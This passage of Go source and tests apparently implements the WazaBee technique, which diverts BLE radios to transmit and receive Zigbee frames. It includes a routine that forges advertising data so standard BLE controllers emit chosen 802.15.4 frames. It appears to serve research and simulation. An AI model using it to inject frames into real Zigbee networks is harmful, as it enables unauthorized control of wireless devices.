	psdu []byte
	st   link.Stats
	err  error
}

func fuzzSetup() error {
	fuzzGolden.once.Do(func() {
		phy, err := ble.NewPHY(ble.LE2M, 8)
		if err != nil {
			fuzzGolden.err = err
			return
		}
		zphy, err := ieee802154.NewPHY(8)
		if err != nil {
			fuzzGolden.err = err
			return
		}
		payload := []byte{0x61, 0x88, 0x2a}
		fcs := bitstream.FCS16Bytes(bitstream.FCS16(payload))
		ppdu, err := ieee802154.NewPPDU(append(append([]byte{}, payload...), fcs[0], fcs[1]))
		if err != nil {
			fuzzGolden.err = err
			return
		}
		sig, err := zphy.Modulate(ppdu)
		if err != nil {
			fuzzGolden.err = err
			return
		}
		padded, err := sig.Pad(160, 90)
		if err != nil {
			fuzzGolden.err = err
			return
		}
		rx, err := NewReceiver(phy)
		if err != nil {
			fuzzGolden.err = err
			return
		}
		rx.Obs = obs.NewRegistry()
		dem, st, rerr := rx.ReceiveStats(padded)
		if rerr != nil {
			fuzzGolden.err = rerr
			return
		}
		fuzzGolden.sig = padded
		fuzzGolden.psdu = append([]byte(nil), dem.PPDU.PSDU...)
		fuzzGolden.st = *st
	})
	return fuzzGolden.err
}

// FuzzStreamChunks fuzzes the chunk split points: each input byte picks
// the next chunk length, and any chunking whatsoever must reproduce the
// one-shot decode of the golden capture byte-for-byte.
func FuzzStreamChunks(f *testing.F) {
	f.Add([]byte{1})
	f.Add([]byte{7, 31, 255, 0})
	f.Add([]byte{199, 199, 199, 3, 3, 3})
	f.Fuzz(func(t *testing.T, cuts []byte) {
		if err := fuzzSetup(); err != nil {
			t.Skipf("golden capture unavailable: %v", err)
		}
		sig := fuzzGolden.sig
		phy, err := ble.NewPHY(ble.LE2M, 8)
		if err != nil {
			t.Fatal(err)
		}
		rx, err := NewReceiver(phy)
		if err != nil {
			t.Fatal(err)
		}
		rx.Obs = obs.NewRegistry()
		s := rx.Stream()
		defer s.Close()

		start, i := 0, 0
		for start < len(sig) {
			n := 1
			if len(cuts) > 0 {
				n = 1 + int(cuts[i%len(cuts)])
				i++
			}
			end := start + n
			if end > len(sig) {
				end = len(sig)
			}
			s.Push(sig[start:end])
			start = end
		}
		dem, st, rerr := s.Flush()
		if rerr != nil {
			t.Fatalf("streaming decode failed where one-shot succeeded: %v", rerr)
		}
		if !bytes.Equal(dem.PPDU.PSDU, fuzzGolden.psdu) {
			t.Fatalf("PSDU % x, one-shot % x", dem.PPDU.PSDU, fuzzGolden.psdu)
		}
		if *st != fuzzGolden.st {
			t.Fatalf("stats differ:\n got %+v\nwant %+v", *st, fuzzGolden.st)
		}
	})
}
