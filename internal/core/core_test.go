package core

import (
	"bytes"
	"errors"
	"math/rand"
	"testing"
	"testing/quick"

	"wazabee/internal/bitstream"
	"wazabee/internal/ble"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
)

func TestConvertPNSequenceLength(t *testing.T) {
	pn, err := ieee802154.PNSequence(0)
	if err != nil {
		t.Fatal(err)
	}
	msk, err := ConvertPNSequence(pn)
	if err != nil {
		t.Fatal(err)
	}
	if len(msk) != 31 {
		t.Errorf("MSK length = %d, want 31 (n-1 for n chips)", len(msk))
	}
	if _, err := ConvertPNSequence(pn[:31]); err == nil {
		t.Error("expected error for short sequence")
	}
}

func TestAlgorithm1MatchesPhysicalTransitions(t *testing.T) {
	// The central correctness claim: the paper's state-machine encoding
	// (Algorithm 1) equals the physically derived chip-transition
	// closed form for every PN sequence.
	for s := 0; s < 16; s++ {
		pn, err := ieee802154.PNSequence(s)
		if err != nil {
			t.Fatal(err)
		}
		got, err := ConvertPNSequence(pn)
		if err != nil {
			t.Fatal(err)
		}
		want := ieee802154.ChipTransitions(pn)
		if got.String() != want.String() {
			t.Errorf("symbol %d: Algorithm 1 = %s, physical transitions = %s", s, got, want)
		}
	}
}

func TestConvertChipStreamMatchesTransitionsProperty(t *testing.T) {
	// Property: for any chip stream, the whole-stream Algorithm 1
	// generalisation equals the physical transition encoding.
	f := func(seed int64, nSymbols uint8) bool {
		rnd := rand.New(rand.NewSource(seed))
		n := 2 + int(nSymbols%16)*ieee802154.ChipsPerSymbol
		chips := make(bitstream.Bits, n)
		for i := range chips {
			chips[i] = byte(rnd.Intn(2))
		}
		got, err := ConvertChipStream(chips)
		if err != nil {
			return false
		}
		return got.String() == ieee802154.ChipTransitions(chips).String()
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestConvertChipStreamShort(t *testing.T) {
	if _, err := ConvertChipStream(bitstream.Bits{1}); err == nil {
		t.Error("expected error for single chip")
	}
}

func TestCorrespondenceTable(t *testing.T) {
	table, err := CorrespondenceTable()
	if err != nil {
		t.Fatal(err)
	}
	alpha := ieee802154.TransitionAlphabet()
	for s := 0; s < 16; s++ {
		if table[s].Symbol != s {
			t.Errorf("row %d has symbol %d", s, table[s].Symbol)
		}
		if len(table[s].PN) != 32 || len(table[s].MSK) != 31 {
			t.Errorf("row %d has lengths %d/%d", s, len(table[s].PN), len(table[s].MSK))
		}
		if table[s].MSK.String() != alpha[s].String() {
			t.Errorf("row %d MSK mismatch with receiver alphabet", s)
		}
	}
	// All MSK rows distinct (the receiver's decodability requirement).
	seen := make(map[string]int, 16)
	for s := 0; s < 16; s++ {
		key := table[s].MSK.String()
		if prev, dup := seen[key]; dup {
			t.Errorf("symbols %d and %d share an MSK encoding", prev, s)
		}
		seen[key] = s
	}
}

func TestAccessPatternProperties(t *testing.T) {
	pat := AccessPattern()
	if len(pat) != 32 {
		t.Fatalf("access pattern length = %d, want 32", len(pat))
	}
	// The first 31 bits are the MSK encoding of the 0000 symbol.
	table, err := CorrespondenceTable()
	if err != nil {
		t.Fatal(err)
	}
	if pat[:31].String() != table[0].MSK.String() {
		t.Error("access pattern does not start with MSK(PN0)")
	}
	// Packing into a register and unpacking round-trips.
	aa := AccessAddress()
	if bitstream.Uint32ToBits(aa).String() != pat.String() {
		t.Error("AccessAddress does not pack AccessPattern")
	}
}

func TestCommonChannelsTableII(t *testing.T) {
	want := []ChannelMapping{
		{Zigbee: 12, BLE: 3, FrequencyMHz: 2410},
		{Zigbee: 14, BLE: 8, FrequencyMHz: 2420},
		{Zigbee: 16, BLE: 12, FrequencyMHz: 2430},
		{Zigbee: 18, BLE: 17, FrequencyMHz: 2440},
		{Zigbee: 20, BLE: 22, FrequencyMHz: 2450},
		{Zigbee: 22, BLE: 27, FrequencyMHz: 2460},
		{Zigbee: 24, BLE: 32, FrequencyMHz: 2470},
		{Zigbee: 26, BLE: 39, FrequencyMHz: 2480},
	}
	got := CommonChannels()
	if len(got) != len(want) {
		t.Fatalf("CommonChannels returned %d rows, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("row %d = %+v, want %+v", i, got[i], want[i])
		}
	}
}

func TestBLEChannelFor(t *testing.T) {
	ch, err := BLEChannelFor(14)
	if err != nil {
		t.Fatal(err)
	}
	if ch != 8 {
		t.Errorf("BLEChannelFor(14) = %d, want 8", ch)
	}
	if _, err := BLEChannelFor(13); err == nil {
		t.Error("expected error for Zigbee channel 13 (2415 MHz, between BLE channels)")
	}
	if _, err := BLEChannelFor(9); err == nil {
		t.Error("expected error for invalid Zigbee channel")
	}
}

func blePHY(t *testing.T, mode ble.Mode) *ble.PHY {
	t.Helper()
	phy, err := ble.NewPHY(mode, 8)
	if err != nil {
		t.Fatal(err)
	}
	return phy
}

func zigbeePHY(t *testing.T) *ieee802154.PHY {
	t.Helper()
	phy, err := ieee802154.NewPHY(8)
	if err != nil {
		t.Fatal(err)
	}
	return phy
}

func testPSDU(t *testing.T, payload []byte) []byte {
	t.Helper()
	fcs := bitstream.FCS16Bytes(bitstream.FCS16(payload))
	return append(append([]byte{}, payload...), fcs[0], fcs[1])
}

func TestNewTransmitterReceiverModeValidation(t *testing.T) {
	if _, err := NewTransmitter(blePHY(t, ble.LE1M)); err == nil {
		t.Error("LE 1M transmitter must be rejected (data-rate requirement)")
	}
	if _, err := NewReceiver(blePHY(t, ble.LE1M)); err == nil {
		t.Error("LE 1M receiver must be rejected")
	}
	if _, err := NewTransmitter(nil); err == nil {
		t.Error("nil PHY must be rejected")
	}
	if _, err := NewReceiver(nil); err == nil {
		t.Error("nil PHY must be rejected")
	}
	if _, err := NewTransmitter(blePHY(t, ble.ESB2M)); err != nil {
		t.Error("ESB 2M must be accepted (scenario B fallback)")
	}
}

// TestWazaBeeTXToZigbeeRX is the transmission primitive end-to-end: a BLE
// chip's GFSK waveform decoded by a legitimate 802.15.4 receiver.
func TestWazaBeeTXToZigbeeRX(t *testing.T) {
	tx, err := NewTransmitter(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	psdu := testPSDU(t, []byte{0x41, 0x88, 0x2a, 0x34, 0x12, 0x42, 0x00, 0x63, 0x00, 0x07})
	sig, err := tx.ModulatePSDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	padded, err := sig.Pad(200, 200)
	if err != nil {
		t.Fatal(err)
	}
	dem, err := zigbeePHY(t).Demodulate(padded)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(dem.PPDU.PSDU, psdu) {
		t.Errorf("PSDU = % x, want % x", dem.PPDU.PSDU, psdu)
	}
	if !bitstream.CheckFCS(dem.PPDU.PSDU) {
		t.Error("FCS does not verify")
	}
	// The Gaussian filter introduces only small chip distances.
	if dem.WorstChipDistance > 6 {
		t.Errorf("worst chip distance = %d, Gaussian approximation worse than expected", dem.WorstChipDistance)
	}
}

// TestZigbeeTXToWazaBeeRX is the reception primitive end-to-end: a real
// O-QPSK waveform captured by a diverted BLE receiver.
func TestZigbeeTXToWazaBeeRX(t *testing.T) {
	rx, err := NewReceiver(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	psdu := testPSDU(t, []byte{0x01, 0x02, 0x03, 0x04, 0x05, 0x06})
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	sig, err := zigbeePHY(t).Modulate(ppdu)
	if err != nil {
		t.Fatal(err)
	}
	padded, err := sig.Pad(150, 150)
	if err != nil {
		t.Fatal(err)
	}
	dem, err := rx.Receive(padded)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(dem.PPDU.PSDU, psdu) {
		t.Errorf("PSDU = % x, want % x", dem.PPDU.PSDU, psdu)
	}
}

// TestWazaBeeLoopback runs both primitives back to back: two diverted BLE
// chips talking 802.15.4 to each other.
func TestWazaBeeLoopback(t *testing.T) {
	tx, err := NewTransmitter(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	rx, err := NewReceiver(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	psdu := testPSDU(t, []byte{0xca, 0xfe, 0xba, 0xbe})
	sig, err := tx.ModulatePSDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	padded, err := sig.Pad(100, 100)
	if err != nil {
		t.Fatal(err)
	}
	dem, err := rx.Receive(padded)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(dem.PPDU.PSDU, psdu) {
		t.Error("loopback PSDU mismatch")
	}
}

func TestReceiverNoFrame(t *testing.T) {
	rx, err := NewReceiver(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	_, err = rx.Receive(nil)
	if !errors.Is(err, ieee802154.ErrNoSync) {
		t.Errorf("error = %v, want ErrNoSync in the chain", err)
	}
	// The underlying demodulator failure must survive the wrapping:
	// a no-preamble miss is distinguishable from a bare sentinel.
	if err == nil || err.Error() == ieee802154.ErrNoSync.Error() {
		t.Errorf("error %q lost its underlying cause", err)
	}
}

// TestReceiverErrorCauses checks each "not received" class keeps its
// distinguishing cause while still matching ErrNoSync.
func TestReceiverErrorCauses(t *testing.T) {
	rx, err := NewReceiver(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	tx, err := NewTransmitter(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	sig, err := tx.ModulatePSDU(testPSDU(t, []byte{1, 2, 3, 4}))
	if err != nil {
		t.Fatal(err)
	}
	padded, err := sig.Pad(100, 100)
	if err != nil {
		t.Fatal(err)
	}
	// Quality gate: an absurdly strict gate may drop even a clean frame;
	// when it does, the chain must still match ErrNoSync.
	rx.MaxChipDistance = 1
	rx.Obs = obs.NewRegistry()
	if _, err := rx.Receive(padded); err != nil && !errors.Is(err, ieee802154.ErrNoSync) {
		t.Errorf("gate drop error = %v, want ErrNoSync in chain", err)
	}
	// Truncated capture after a good preamble: mid-frame abort is still
	// ErrNoSync but the message differs from the correlation failure.
	rx.MaxChipDistance = 15
	cut := padded[:len(padded)*2/3]
	if _, err := rx.Receive(cut); err != nil && !errors.Is(err, ieee802154.ErrNoSync) {
		t.Errorf("truncated frame error = %v, want ErrNoSync in chain", err)
	}
}

// TestReceiverMetrics checks the telemetry wiring: a successful receive
// and a failed one land in the attached registry.
func TestReceiverMetrics(t *testing.T) {
	rx, err := NewReceiver(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	tx, err := NewTransmitter(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	reg := obs.NewRegistry()
	tr := obs.NewTrace("test")
	rx.Obs, rx.Trace = reg, tr
	tx.Obs = reg

	sig, err := tx.ModulatePSDU(testPSDU(t, []byte{0xca, 0xfe}))
	if err != nil {
		t.Fatal(err)
	}
	padded, err := sig.Pad(100, 100)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := rx.Receive(padded); err != nil {
		t.Fatal(err)
	}
	if _, err := rx.Receive(nil); err == nil {
		t.Fatal("expected failure on empty capture")
	}

	if got := reg.Counter("wazabee_frames_transmitted_total").Value(); got != 1 {
		t.Errorf("frames transmitted = %d, want 1", got)
	}
	if got := reg.Counter("wazabee_frames_received_total", "decoder", "wazabee").Value(); got != 1 {
		t.Errorf("frames received = %d, want 1", got)
	}
	if got := reg.Counter("wazabee_sync_failures_total", "decoder", "wazabee").Value(); got != 1 {
		t.Errorf("sync failures = %d, want 1", got)
	}
	if got := reg.Counter("wazabee_crc_checks_total", "decoder", "wazabee", "result", "pass").Value(); got != 1 {
		t.Errorf("crc passes = %d, want 1", got)
	}
	h := reg.Histogram("wazabee_worst_chip_distance", nil, "decoder", "wazabee")
	if h.Count() != 1 {
		t.Errorf("chip distance observations = %d, want 1", h.Count())
	}
	if reg.Histogram(obs.StageSecondsMetric, nil, "stage", "aa-correlate").Count() < 1 {
		t.Error("no aa-correlate stage timings recorded")
	}
	if len(tr.Roots()) == 0 {
		t.Error("no spans recorded on the attached trace")
	}
}

func TestTransmitterValidation(t *testing.T) {
	tx, err := NewTransmitter(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tx.FrameBits(nil); err == nil {
		t.Error("expected error for nil PPDU")
	}
	if _, err := tx.Modulate(nil); err == nil {
		t.Error("expected error for nil PPDU")
	}
	if _, err := tx.ModulatePSDU(make([]byte, 200)); err == nil {
		t.Error("expected error for oversized PSDU")
	}
	if tx.PHY() == nil {
		t.Error("PHY accessor returned nil")
	}
}

func TestFrameBitsLength(t *testing.T) {
	tx, err := NewTransmitter(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	psdu := testPSDU(t, []byte{1, 2, 3})
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	bits, err := tx.FrameBits(ppdu)
	if err != nil {
		t.Fatal(err)
	}
	frameBytes := ieee802154.PreambleLength + 2 + len(psdu)
	wantChips := frameBytes * 64
	if len(bits) != wantChips-1 {
		t.Errorf("frame bits = %d, want %d", len(bits), wantChips-1)
	}
}

// TestDewhitenedFrameBits verifies the section IV-D fallback: the
// pre-compensated bits, passed through the radio's own whitening, equal
// the MSK frame stream (plus byte-alignment padding).
func TestDewhitenedFrameBits(t *testing.T) {
	tx, err := NewTransmitter(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	psdu := testPSDU(t, []byte{0x11, 0x22, 0x33})
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	const channel = 8
	pre, err := tx.DewhitenedFrameBits(channel, ppdu)
	if err != nil {
		t.Fatal(err)
	}
	// The radio whitens the FIFO contents before modulating.
	w, err := bitstream.NewWhitener(channel)
	if err != nil {
		t.Fatal(err)
	}
	onAir := w.Apply(bitstream.Clone(pre))

	want, err := tx.FrameBits(ppdu)
	if err != nil {
		t.Fatal(err)
	}
	if onAir[:len(want)].String() != want.String() {
		t.Error("whitened pre-compensated bits do not reproduce the MSK frame")
	}
	if _, err := tx.DewhitenedFrameBits(99, ppdu); err == nil {
		t.Error("expected error for invalid channel")
	}
	if _, err := tx.DewhitenedFrameBits(channel, nil); err == nil {
		t.Error("expected error for nil PPDU")
	}
}

// TestForgeAdvertisingData verifies the scenario A construction: the
// forged manufacturer data, embedded in an AUX_ADV_IND and whitened by a
// standard BLE controller, produces on-air bits that decode as the target
// Zigbee frame.
func TestForgeAdvertisingData(t *testing.T) {
	const bleChannel = 8 // 2420 MHz = Zigbee channel 14
	psdu := testPSDU(t, []byte{0x61, 0x88, 0x05, 0x34, 0x12, 0x42, 0x00, 0x63, 0x00, 0x2a})
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	data, err := ForgeAdvertisingData(bleChannel, ble.AuxAdvIndOverhead, ppdu)
	if err != nil {
		t.Fatal(err)
	}

	// A standard controller builds the AUX_ADV_IND and whitens it.
	pdu, err := ble.BuildAuxAdvInd([6]byte{1, 2, 3, 4, 5, 6}, 1, 0x155, 0x0059, data)
	if err != nil {
		t.Fatal(err)
	}
	pkt := &ble.Packet{
		AccessAddress: ble.AdvAccessAddress,
		PDU:           pdu,
		Channel:       bleChannel,
		Mode:          ble.LE2M,
		CRCInit:       bitstream.BLEAdvCRCInit,
	}
	airBits, err := pkt.AirBits()
	if err != nil {
		t.Fatal(err)
	}

	// The on-air bits inside the AdvData region must equal the MSK
	// encoding of the frame.
	target, err := ConvertChipStream(ieee802154.Spread(ppdu.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	dataBitStart := (2+4)*8 + ble.AuxAdvIndOverhead*8 // preamble+AA, then PDU header bytes
	region := airBits[dataBitStart : dataBitStart+len(target)]
	if region.String() != target.String() {
		t.Fatal("whitened AdvData region does not carry the MSK frame")
	}

	// End to end: modulate the whole BLE packet and let a legitimate
	// 802.15.4 receiver find the embedded frame.
	phy := blePHY(t, ble.LE2M)
	sig, err := phy.ModulateBits(airBits)
	if err != nil {
		t.Fatal(err)
	}
	padded, err := sig.Pad(120, 120)
	if err != nil {
		t.Fatal(err)
	}
	dem, err := zigbeePHY(t).Demodulate(padded)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(dem.PPDU.PSDU, psdu) {
		t.Errorf("recovered PSDU = % x, want % x", dem.PPDU.PSDU, psdu)
	}
}

func TestForgeAdvertisingDataValidation(t *testing.T) {
	ppdu, err := ieee802154.NewPPDU([]byte{1, 2, 3, 4})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ForgeAdvertisingData(8, 16, nil); err == nil {
		t.Error("expected error for nil PPDU")
	}
	if _, err := ForgeAdvertisingData(8, -1, ppdu); err == nil {
		t.Error("expected error for negative offset")
	}
	if _, err := ForgeAdvertisingData(99, 16, ppdu); err == nil {
		t.Error("expected error for invalid channel")
	}
	data, err := ForgeAdvertisingData(8, 16, ppdu)
	if err != nil {
		t.Fatal(err)
	}
	frameBytes := ieee802154.PreambleLength + 2 + 4
	if len(data) != frameBytes*8 {
		t.Errorf("forged data length = %d bytes, want %d", len(data), frameBytes*8)
	}
}
