package core

import (
	"fmt"

	"wazabee/internal/bitstream"
	"wazabee/internal/ble"
	"wazabee/internal/dsp"
	"wazabee/internal/dsp/stream"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
)

// Transmitter is the WazaBee transmission primitive: it drives a BLE GFSK
// modulator with MSK-converted PN sequences so that the emitted waveform
// demodulates as a valid IEEE 802.15.4 frame.
type Transmitter struct {
	phy *ble.PHY

	// Obs receives the transmitter's metrics (frames, stage timings);
	// nil falls back to the process default registry.
	Obs *obs.Registry

	// Trace, when non-nil, records a "modulate" span per frame.
	Trace *obs.Trace
}

// NewTransmitter wraps a BLE PHY. The PHY must run at 2 Mbit/s (LE 2M, or
// the ESB 2M fallback) so that one MSK symbol lasts exactly one O-QPSK
// chip period — the data-rate requirement of section IV-D.
func NewTransmitter(phy *ble.PHY) (*Transmitter, error) {
	if phy == nil {
		return nil, fmt.Errorf("core: nil PHY")
	}
	rate, err := phy.Mode.SymbolRate()
	if err != nil {
		return nil, err
	}
	if rate != ieee802154.ChipRate {
		return nil, fmt.Errorf("core: %v runs at %d sym/s; WazaBee needs the %d chip/s rate (use LE 2M)",
			phy.Mode, rate, ieee802154.ChipRate)
	}
	return &Transmitter{phy: phy}, nil
}

// FrameBits converts a PPDU into the on-air bit sequence the BLE modulator
// must send: DSSS spreading to chips, then whole-stream MSK conversion.
func (t *Transmitter) FrameBits(ppdu *ieee802154.PPDU) (bitstream.Bits, error) {
	if ppdu == nil {
		return nil, fmt.Errorf("core: nil PPDU")
	}
	return ConvertChipStream(ieee802154.Spread(ppdu.Bytes()))
}

// Modulate produces the complex-baseband waveform of the diverted BLE
// radio transmitting the frame.
func (t *Transmitter) Modulate(ppdu *ieee802154.PPDU) (dsp.IQ, error) {
	reg := obs.Or(t.Obs)
	end := obs.Stage(reg, t.Trace, "modulate")
	defer end()
	bits, err := t.FrameBits(ppdu)
	if err != nil {
		return nil, err
	}
	sig, err := t.phy.ModulateBits(bits)
	if err != nil {
		return nil, err
	}
	reg.Counter("wazabee_frames_transmitted_total").Inc()
	return sig, nil
}

// ModulatePooled is the pooled form of Modulate: every intermediate
// buffer (serialised PPDU octets, DSSS chips, MSK bits) is borrowed
// from the shared stream.BufferPool, and the returned waveform itself
// lives in a pooled slab. The caller must invoke release exactly once
// when done with sig; after that the slab may be reused and sig must
// not be touched. The waveform samples are identical to Modulate's.
func (t *Transmitter) ModulatePooled(ppdu *ieee802154.PPDU) (sig dsp.IQ, release func(), err error) {
	if ppdu == nil {
		return nil, nil, fmt.Errorf("core: nil PPDU")
	}
	reg := obs.Or(t.Obs)
	end := obs.Stage(reg, t.Trace, "modulate")
	defer end()

	pool := stream.Shared()
	octets := ppdu.AppendBytes(pool.Bits(ieee802154.PreambleLength + 2 + len(ppdu.PSDU)))
	nChips := len(octets) * ieee802154.SymbolsPerByte * ieee802154.ChipsPerSymbol
	chips := ieee802154.AppendSpread(bitstream.Bits(pool.Bits(nChips)), octets)
	pool.PutBits(octets)
	bits, err := AppendConvertChipStream(bitstream.Bits(pool.Bits(nChips)), chips)
	pool.PutBits(chips)
	if err != nil {
		pool.PutBits(bits)
		return nil, nil, err
	}

	sps := t.phy.SamplesPerSymbol
	sig, err = t.phy.AppendModulateBits(pool.IQ(len(bits)*sps+4*sps+1), bits)
	pool.PutBits(bits)
	if err != nil {
		return nil, nil, err
	}
	reg.Counter("wazabee_frames_transmitted_total").Inc()
	return sig, func() { pool.PutIQ(sig) }, nil
}

// ModulatePSDU wraps a MAC-level PSDU in a PPDU and modulates it.
func (t *Transmitter) ModulatePSDU(psdu []byte) (dsp.IQ, error) {
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		return nil, err
	}
	return t.Modulate(ppdu)
}

// PHY exposes the underlying BLE modem (for impairment configuration by
// the chip models).
func (t *Transmitter) PHY() *ble.PHY {
	return t.phy
}

// DewhitenedFrameBits implements the section IV-D fallback for chips
// whose whitening cannot be disabled: because whitening is a reversible
// XOR stream, pre-applying it ("dewhitening") makes the radio's own
// whitening cancel out, leaving the MSK frame bits on the air. The
// returned bits are padded to whole bytes, as a radio FIFO requires.
func (t *Transmitter) DewhitenedFrameBits(bleChannel int, ppdu *ieee802154.PPDU) (bitstream.Bits, error) {
	bits, err := t.FrameBits(ppdu)
	if err != nil {
		return nil, err
	}
	for len(bits)%8 != 0 {
		bits = append(bits, 0)
	}
	w, err := bitstream.NewWhitener(bleChannel)
	if err != nil {
		return nil, err
	}
	return w.Apply(bits), nil
}

// ForgeAdvertisingData implements the scenario A payload construction: it
// returns the manufacturer-data bytes to hand to a standard extended-
// advertising API so that, after the controller whitens the AUX_ADV_IND
// for bleChannel, the on-air bits from the payload position onward equal
// the MSK encoding of the 802.15.4 frame.
//
// payloadByteOffset is the number of PDU bytes the controller places
// before the attacker-controlled data (16 for the manufacturer-data
// AUX_ADV_IND layout, per the paper). The whitening stream is XORed in
// advance ("dewhitening"), so the radio's own whitening cancels out.
func ForgeAdvertisingData(bleChannel, payloadByteOffset int, ppdu *ieee802154.PPDU) ([]byte, error) {
	if ppdu == nil {
		return nil, fmt.Errorf("core: nil PPDU")
	}
	if payloadByteOffset < 0 {
		return nil, fmt.Errorf("core: negative payload offset %d", payloadByteOffset)
	}
	target, err := ConvertChipStream(ieee802154.Spread(ppdu.Bytes()))
	if err != nil {
		return nil, err
	}
	// Pad to a whole number of bytes (the MSK stream is 64n-1 bits; the
	// extra trailing bit is past the frame and harmless).
	for len(target)%8 != 0 {
		target = append(target, 0)
	}
	// The controller whitens PDU bits starting at the PDU's first bit;
	// skip the header bytes that precede our data.
	w, err := bitstream.NewWhitener(bleChannel)
	if err != nil {
		return nil, err
	}
	for i := 0; i < payloadByteOffset*8; i++ {
		w.NextBit()
	}
	w.Apply(target)
	return bitstream.BitsToBytes(target)
}
