package core

import (
	"fmt"
	"math"
	"time"

	"wazabee/internal/bitstream"
	"wazabee/internal/ble"
	"wazabee/internal/dsp"
	"wazabee/internal/dsp/stream"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/obs/link"
)

// RxStream is the streaming form of the WazaBee receiver: the same
// GFSK-discriminate → Access-Address-correlate → despread chain as
// Receiver.Receive, re-expressed as composed pipeline stages that are
// fed IQ chunks of arbitrary size. All carry-over state — the boundary
// sample of the discriminator, partial symbol windows and candidate
// scans of the correlator, the despreader's cursor — lives inside the
// stages, so any chunking of a capture drives the exact same
// floating-point operations in the exact same order as the one-shot
// path.
//
// Lifecycle: Push every chunk of a capture, then Flush at the capture
// boundary. Flush concludes the attempt — the frame span's SNR is
// measured against the noise floor of the *whole* capture, including
// the tail after the frame, so the final verdict (decoded frame, link
// stats, or the one-shot error chain, byte-identical to ReceiveStats)
// can only be rendered once the capture ends. Push itself returns any
// frame whose despreading completed during that chunk, as soon as the
// PSDU bytes are final; its Link field is attached later, by the Flush
// that finalizes the attempt.
//
// Push performs no heap allocation in the steady state (after buffer
// warm-up, while no frame is being emitted); Flush allocates its
// result records exactly like the one-shot receiver.
//
// An RxStream is not goroutine-safe: run one per channel.
type RxStream struct {
	r     *Receiver
	reg   *obs.Registry
	trace *obs.Trace
	pool  *stream.BufferPool

	pattern []byte
	sps     int
	// nominal is the per-symbol phase magnitude π·ModulationIndex.
	nominal float64

	disc stream.Discriminator
	corr *stream.Correlator
	desp *ieee802154.TransitionDespreader

	// Retained capture since the last Flush: link.Measure needs the raw
	// samples around the frame span for the RSSI/noise-floor estimate.
	iq       dsp.IQ
	powerSum float64
	incs     []float64 // per-Push discriminator scratch

	// Synchronisation lock. The lock tracks the correlator's current
	// cross-phase winner and is re-acquired whenever a later chunk
	// reveals a better candidate — until a frame completes, which
	// freezes the lock (committed).
	locked    bool
	committed bool
	gated     bool
	lock      stream.Candidate
	bias      float64
	sliced    []byte // CFO-corrected hard decisions from the lock position
	despErr   error
	dem       *ieee802154.Demodulated

	// Pre-resolved stage-duration series so per-Push instrumentation
	// does not touch the registry's variadic lookup path (which
	// allocates a label set per call).
	stageCorr *obs.Histogram
	stageDesp *obs.Histogram
	// Pre-resolved stream-throughput counters (§7 catalogue:
	// wazabee_stream_*).
	pushes  *obs.Counter
	samples *obs.Counter

	// origin is the emission stamp of the capture currently being
	// accumulated (SetOrigin); zero leaves the demod latency stage
	// unobserved. hDemod is the pre-resolved
	// wazabee_latency_seconds{stage="demod"} series it feeds at Flush.
	origin time.Time
	hDemod *obs.Histogram
}

// Stream builds a fresh streaming receiver sharing this Receiver's
// configuration (PHY, pattern-error budget, chip-distance gate,
// registry and trace, snapshotted at creation).
func (r *Receiver) Stream() *RxStream {
	reg := obs.Or(r.Obs)
	pool := stream.Shared()
	pattern := AccessPattern()
	sps := r.phy.SamplesPerSymbol
	return &RxStream{
		r:         r,
		reg:       reg,
		trace:     r.Trace,
		pool:      pool,
		pattern:   pattern,
		sps:       sps,
		nominal:   math.Pi * r.phy.ModulationIndex,
		corr:      stream.NewCorrelator(pool, pattern, r.MaxPatternErrors, sps),
		desp:      ieee802154.NewTransitionDespreader(),
		iq:        pool.IQ(4096),
		incs:      pool.F64(4096),
		sliced:    pool.Bits(1024),
		stageCorr: reg.Histogram(obs.StageSecondsMetric, obs.DurationBuckets, "stage", "aa-correlate"),
		stageDesp: reg.Histogram(obs.StageSecondsMetric, obs.DurationBuckets, "stage", "despread"),
		pushes:    reg.Counter("wazabee_stream_pushes_total", "decoder", "wazabee"),
		samples:   reg.Counter("wazabee_stream_samples_total", "decoder", "wazabee"),
		hDemod:    obs.LatencyHistogram(reg, "demod", "decoder", "wazabee"),
	}
}

// SetOrigin stamps the capture currently being accumulated with its
// monotonic emission time (zigbee.Capture.Origin). The concluding Flush
// then observes the emission→verdict distance into the
// wazabee_latency_seconds{stage="demod"} histogram — for every
// concluded attempt, decoded or not, so the latency population is not
// survivorship-biased toward clean frames. Call it any time between the
// capture's first Push and its Flush; Flush clears the stamp. A zero
// origin (the default) leaves the stage unobserved.
